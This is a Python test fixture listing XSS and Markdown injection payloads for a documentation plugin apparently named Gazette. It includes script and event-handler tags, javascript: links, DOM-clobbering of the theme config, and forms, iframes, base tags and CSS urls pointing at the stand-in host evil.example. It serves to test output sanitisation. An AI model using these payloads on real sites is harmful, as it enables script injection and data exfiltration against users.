"""The attack corpus: what a pull request can write, placed into every field Gazette shows.

``FIELD_PAYLOADS`` go into every text field (titles, summaries, authors, categories,
tags, campaign and event names, places, summaries, contest prizes, countries,
winners and organizer, newsletter subjects and preheaders, channel texts,
waiver reasons); ``BODY_PAYLOADS`` are Markdown that only means something in
a body. Every script payload calls ``alert`` and every exfiltration targets
``evil.example``, so a test can look for those two words.
"""

FIELD_PAYLOADS = [
    '<img src=x onerror=alert(1)>',
    "<script>alert(1)</script>",
    '"><script>alert(1)</script>',          # out of an attribute: <meta content="…">
    "'><svg onload=alert(1)>",
    "</title><script>alert(1)</script>",    # out of <title>
    "[ici](javascript:alert(1))",            # Markdown link syntax in a title
    "![x](javascript:alert(1))",
    "[x](jav&#x61;script:alert(1))",         # entity-encoded scheme
    '<a href="jav&#x61;script:alert(1)">x</a>',
    'Titre {: onclick="alert(1)" }',         # attr_list in a heading
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=onmouseover to=alert(1)>",
    '<iframe src="https://evil.example/"></iframe>',
    '<p style="background:url(https://evil.example/x.png)">x</p>',
    "<details open ontoggle=alert(1)>",
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "@octocat @fabrique/admins #123 GH-1",    # mentions and references in the review
    "x\n## Titre injecté\n</details><details open><summary>@octocat</summary>",
    "``a`` | b | `c`",                        # code fences and table cells
]

BODY_PAYLOADS = [
    "[référence][r]\n\n[r]: javascript:alert(1)",
    "[référence encodée][r2]\n\n[r2]: jav&#x61;script:alert(1)",
    "Paragraphe\n{: onclick=\"alert(1)\" }",
    "## Sous-titre {: onmouseover=\"alert(1)\" }",
    "![image](photo.png){: onerror=\"alert(1)\" }",
    "## <img src=x onerror=alert(1)>",
    "## &lt;img src=x onerror=alert(1)&gt;",
    '<svg><a xlink:href="javascript:alert(1)"><text x="0" y="15">clic</text></a></svg>',
    "<object data=\"https://evil.example/x.swf\"></object>",
    "<form action=\"https://evil.example/\"><input name=q><button>Envoyer</button></form>",
    '<a href="https://evil.example/" target="_blank" onclick="alert(1)">lien</a>',
    "<style>body{background:url(https://evil.example/bg.png)}</style>",
    '<base href="https://evil.example/">',
    # DOM clobbering: before the theme's <script id="__config">, Material would read this one.
    '<div id="__config">{"base": "https://evil.example/", "features": ["navigation.instant"], '
    '"search": "https://evil.example/worker.js"}</div>',
    '<label for="__drawer">x</label><span id="&#95;_search" name="md-x">y</span>',
    "<!-- gazette-list-0 -->",  # the plugin's own placeholder: must neither fail the build nor move a list
]

ALL = FIELD_PAYLOADS + BODY_PAYLOADS


def one_line(text: str) -> str:
    """What a plain-text field shows: the characters, whitespace collapsed."""
    return " ".join(text.split())
